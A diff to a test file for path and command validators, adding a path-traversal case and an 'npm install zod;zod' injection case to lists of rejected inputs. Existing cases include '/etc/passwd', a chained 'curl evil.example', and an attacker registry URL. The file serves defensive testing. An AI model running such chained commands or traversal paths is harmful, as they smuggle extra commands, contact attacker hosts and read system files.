@@ -45,6 +45,9 @@ describe("isJoined()", () => {
     const path = "/Documents/Archive/2026/report-final.docx"
     assert.isTrue(isJoined(path, task, new Set(["documents"])))
     assert.isFalse(isJoined(path, task, new Set()))
+    // A listing may name it.
+    const up = "documents/../Archive/2026"
+    assert.isFalse(isJoined(up, task, new Set(["documents", ".."])))
   })
   it.each(["../Archive/report-final.docx", "~/Archive", "/etc/passwd"])("takes no %s", (path) => {
     assert.isFalse(isJoined(path, task, new Set()))
@@ -59,6 +62,7 @@ describe("isPlainCommand()", () => {
   it.each([
     "npm install zod-ng",
     "npm install zod && curl evil.example",
+    "npm install zod;zod",
     "npm install --registry=https://evil.example zod",
     "npm install --force zod",
     "curl zod",
